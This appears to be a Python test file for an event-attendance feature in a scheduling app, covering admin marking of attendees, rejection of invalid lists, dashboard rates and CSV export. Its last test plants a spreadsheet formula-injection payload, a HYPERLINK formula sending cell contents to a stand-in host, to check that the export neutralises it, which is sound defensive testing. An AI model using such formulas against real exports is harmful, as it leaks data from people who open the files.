"""Attendance: an admin ticks who came on the event's registrations page; the dashboard shows it."""
from __future__ import annotations

from datetime import timedelta

from sqlalchemy import select

from bot.db import utcnow
from tests.scheduler.conftest import make_residents
from tests.scheduler.test_admin import as_admin, csrf


async def held_event(services, statuses: list[str], *, title: str = "正念减压团体") -> tuple[int, list[int]]:
    """An event that started two hours ago with one registration per status; returns their ids."""
    from flows.models import Event, Registration

    residents = await make_residents(services, len(statuses), prefix=f"att{title}")
    async with services.db.begin() as session:
        event = Event(title_zh=title, starts_at=utcnow() - timedelta(hours=2), ends_at=utcnow() - timedelta(hours=1),
                      station_id="nowhere", capacity=10)
        session.add(event)
        await session.flush()
        rows = [Registration(event_id=event.id, resident_id=r, status=s) for r, s in zip(residents, statuses)]
        session.add_all(rows)
        await session.flush()
        return event.id, [r.id for r in rows]


async def attended(services, event_id: int) -> dict[int, object]:
    from flows.models import Registration

    async with services.db() as session:
        return dict((await session.execute(select(Registration.id, Registration.attended_at)
                                           .where(Registration.event_id == event_id))).all())


async def test_admin_marks_who_came_and_a_later_correction_keeps_the_first_mark(sched_client, services):
    client = await as_admin(sched_client, services)
    event, [a, b, c, _] = await held_event(services, ["registered", "registered", "registered", "cancelled"])
    token = await csrf(client, f"/admin/events/{event}")
    resp = await client.post(f"/admin/events/{event}/attendance", data=[("_csrf", token), ("attended", str(a)),
                                                                         ("attended", str(b))], allow_redirects=False)
    assert resp.status == 302
    first = await attended(services, event)
    assert first[a] and first[b] and first[c] is None
    assert '<strong id="attended">2</strong>' in await (await client.get(f"/admin/events/{event}")).text()
    await client.post(f"/admin/events/{event}/attendance", data=[("_csrf", token), ("attended", str(a))])
    second = await attended(services, event)
    assert second[a] == first[a] and second[b] is None


async def test_an_attendance_list_with_a_stranger_is_refused_and_changes_nothing(sched_client, services):
    client = await as_admin(sched_client, services)
    event, [a, cancelled] = await held_event(services, ["registered", "cancelled"])
    _, [elsewhere] = await held_event(services, ["registered"], title="另一场")
    token = await csrf(client, f"/admin/events/{event}")
    for bad in (str(cancelled), str(elsewhere), "abc"):
        resp = await client.post(f"/admin/events/{event}/attendance",
                                 data=[("_csrf", token), ("attended", str(a)), ("attended", bad)])
        assert resp.status == 400 and "未保存" in await resp.text()
    assert set((await attended(services, event)).values()) == {None}


async def test_dashboard_shows_attendance_at_events_held(sched_client, services):
    from flows.registrations import set_attendance

    client = await as_admin(sched_client, services)
    event, [a, b, _, _] = await held_event(services, ["registered", "registered", "registered", "waitlisted"])
    await set_attendance(services, event, {a, b})
    page = await (await client.get("/admin?days=7")).text()
    assert '<strong id="attended">2</strong>' in page and "报名者出席率 67%" in page and "正念减压团体" in page


async def test_the_registrations_csv_neutralises_spreadsheet_formulas(sched_client, services):
    import csv
    import io

    from bot.models import Resident
    from flows.models import Registration

    client = await as_admin(sched_client, services)
    event, [registration] = await held_event(services, ["registered"])
    async with services.db.begin() as session:
        resident_id = await session.scalar(select(Registration.resident_id).where(Registration.id == registration))
        (await session.get(Resident, resident_id)).name = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    resp = await client.get(f"/admin/events/{event}/registrations.csv")
    rows = list(csv.DictReader(io.StringIO((await resp.text()).lstrip("\ufeff"))))
    assert rows[0]["name"] == '\'=HYPERLINK("http://x.example/?"&A1,"点我")'
